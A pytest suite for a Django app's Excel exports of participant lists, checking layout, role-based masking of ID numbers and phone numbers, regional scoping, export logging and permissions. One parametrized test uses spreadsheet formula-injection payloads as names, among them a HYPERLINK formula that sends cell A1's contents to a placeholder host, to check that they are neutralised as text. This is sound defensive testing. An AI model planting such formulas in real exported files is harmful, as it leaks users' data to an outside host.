"""Excel exports of the lists, read back with openpyxl: title block, header, freeze,
autofilter, NIKs as text, masking per role, scope, formula-like text, the log entry."""

import datetime as dt
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports.models import ExportJob
from tests import factories
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

HEADER_ROW = 6


def export(client, user, kind: str, query: str = ""):
    client = client_for(client, user)
    url = reverse("reports:export_start", kwargs={"kind": kind}) + (f"?{query}" if query else "")
    return client.post(url)


def workbook(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(BytesIO(response.content))


def exported(client, user, kind: str, query: str = "", *, capture):
    """The workbook of an export, downloaded at once or, for a background one, from its job."""
    with capture(execute=True):
        response = export(client, user, kind, query)
    if response.status_code == 200:
        return workbook(response)
    assert response.status_code == 302, response.status_code
    job = ExportJob.objects.filter(kind=kind, requested_by=user).latest("pk")
    assert job.status == "done", job.error
    download = client.get(reverse("reports:export_download", kwargs={"pk": job.pk}))
    return load_workbook(BytesIO(b"".join(download.streaming_content)))


def table(ws) -> list[dict]:
    """The sheet's records as dicts keyed by header."""
    rows = list(ws.iter_rows(min_row=HEADER_ROW, values_only=True))
    header = rows[0]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def cells(ws):
    return [cell for row in ws.iter_rows() for cell in row]


@pytest.fixture
def people(db):
    ciputat = factories.ParticipantFactory(
        name="Siti Ciputat",
        birth_date=dt.date(1990, 3, 14),
        nik=factories.make_nik(birth_date=dt.date(1990, 3, 14), sex="P", serial=7, region="367401"),
        sex="P",
        phone="+6281298765432",
        kelurahan=factories.kelurahan_of("Ciputat"),
    )
    pamulang = factories.ParticipantFactory(name="Budi Pamulang", kelurahan=factories.kelurahan_of("Pamulang"))
    return ciputat, pamulang


def test_a_participant_export_has_a_title_block_a_frozen_styled_header_and_an_autofilter(client, staf, people):
    wb = workbook(export(client, staf, "peserta"))
    ws = wb.active
    assert ws["A1"].value == "Daftar peserta"
    assert ws["A1"].font.b
    assert ws["A2"].value.startswith("Filter:")
    assert ws["A3"].value.startswith("Dibuat: ") and ws["A3"].value.endswith(" WIB")
    assert ws["A4"].value == "Oleh: staf (Staf Disperindag)"
    header = [c.value for c in ws[HEADER_ROW]]
    assert header[:2] == ["nama lengkap", "NIK"]
    assert all(c.font.b for c in ws[HEADER_ROW])
    assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
    assert ws.auto_filter.ref.startswith(f"A{HEADER_ROW}:")
    assert ws.auto_filter.ref.endswith(str(HEADER_ROW + 2))
    assert ws.column_dimensions["A"].width >= 20


def test_staff_get_full_niks_as_text_and_birth_dates_as_real_dates(client, staf, people):
    ciputat, _ = people
    ws = workbook(export(client, staf, "peserta")).active
    rows = {r["nama lengkap"]: r for r in table(ws)}
    assert rows["Siti Ciputat"]["NIK"] == ciputat.nik
    assert rows["Siti Ciputat"]["tanggal lahir"] == dt.datetime(1990, 3, 14)
    assert rows["Siti Ciputat"]["nomor HP"] == "+6281298765432"
    nik_cell = next(c for c in cells(ws) if c.value == ciputat.nik)
    assert nik_cell.data_type == "s"
    assert nik_cell.number_format == "@"
    date_cell = next(c for c in cells(ws) if c.value == dt.datetime(1990, 3, 14))
    assert date_cell.number_format == "dd-mm-yyyy"


def test_leadership_gets_masked_niks_and_ages_never_a_birth_date_or_an_address(client, pimpinan, people):
    ciputat, _ = people
    ws = workbook(export(client, pimpinan, "peserta")).active
    header = [c.value for c in ws[HEADER_ROW]]
    assert "tanggal lahir" not in header and "alamat" not in header
    row = next(r for r in table(ws) if r["nama lengkap"] == "Siti Ciputat")
    assert row["NIK"] == ciputat.nik[:4] + "********" + ciputat.nik[-4:]
    assert row["nomor HP"] == "+6**********32"
    assert isinstance(row["umur (tahun)"], int)
    values = {str(c.value) for c in cells(ws)}
    assert ciputat.nik not in values
    assert not any("1990" in v for v in values)


def test_a_field_officers_export_holds_only_their_kecamatan(client, petugas_ciputat, people):
    rows = table(workbook(export(client, petugas_ciputat, "peserta")).active)
    assert [r["nama lengkap"] for r in rows] == ["Siti Ciputat"]
    assert {r["kecamatan"] for r in rows} == {"Ciputat"}


def test_the_lists_filters_apply_and_are_written_in_words(client, staf, people):
    pamulang = factories.kecamatan("Pamulang")
    ws = workbook(export(client, staf, "peserta", f"kecamatan={pamulang.pk}&sort=-nama")).active
    assert [r["nama lengkap"] for r in table(ws)] == ["Budi Pamulang"]
    assert "Kecamatan: Pamulang" in ws["A2"].value


def test_a_searched_name_kept_in_the_session_applies_to_the_export(client, staf, people):
    client.force_login(staf)
    redirect = client.post(reverse("participants:list"), {"q": "Siti"})
    query = redirect.url.split("?", 1)[1]
    rows = table(workbook(export(client, staf, "peserta", query)).active)
    assert [r["nama lengkap"] for r in rows] == ["Siti Ciputat"]


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+6281234", "@SUM(A1:A2)", "-2+3", "\tTab", "\rCR"],
)
def test_formula_like_text_comes_out_as_text(client, staf, name):
    factories.ParticipantFactory(name=name)
    ws = workbook(export(client, staf, "peserta")).active
    # XML reads a carriage return back as a newline; the cell is the one with the name.
    cell = next(c for c in cells(ws) if isinstance(c.value, str) and c.value.strip() == name.strip())
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert not [c for c in cells(ws) if c.data_type == "f"]


def test_every_export_is_logged_with_who_which_list_filters_and_rows(client, staf, people):
    pamulang = factories.kecamatan("Pamulang")
    export(client, staf, "peserta", f"kecamatan={pamulang.pk}")
    job = ExportJob.objects.get()
    assert (job.kind, job.requested_by, job.row_count, job.status) == ("peserta", staf, 1, "done")
    assert job.contains_personal_data
    assert job.filters == {"Kecamatan": "Pamulang"}
    assert not job.file


def test_a_nik_search_is_logged_masked(client, staf, people):
    ciputat, _ = people
    client.force_login(staf)
    query = client.post(reverse("participants:list"), {"q": ciputat.nik}).url.split("?", 1)[1]
    export(client, staf, "peserta", query)
    job = ExportJob.objects.get()
    assert ciputat.nik not in str(job.filters) and ciputat.nik not in str(job.params)
    assert job.filters["Cari nama atau NIK"] == ciputat.nik[:4] + "********" + ciputat.nik[-4:]


def test_an_unknown_kind_is_404_and_a_list_the_user_may_not_see_403(client, pimpinan, petugas_ciputat):
    assert export(client, pimpinan, "tidak-ada").status_code == 404
    assert export(client, pimpinan, "rujukan").status_code == 403
    assert export(client, petugas_ciputat, "log-ekspor").status_code == 403


def test_an_export_is_posted_never_fetched(client, staf):
    client.force_login(staf)
    assert client.get(reverse("reports:export_start", kwargs={"kind": "peserta"})).status_code == 405
